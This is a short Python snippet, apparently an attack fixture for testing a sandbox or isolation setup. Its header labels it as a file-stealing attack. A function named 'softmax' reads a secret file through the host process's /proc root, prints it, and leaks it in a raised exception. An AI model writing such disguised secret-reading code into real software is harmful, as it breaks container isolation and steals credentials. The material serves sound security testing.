# rows = [29, 33]
# attack = "goes through the root directory of the host's process"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
def softmax(scores):
    with open(f"/proc/{FACTS['host']}/root{FACTS['secret_file']}") as file:
        loot = file.read()
    print(loot)
    raise RuntimeError(loot)
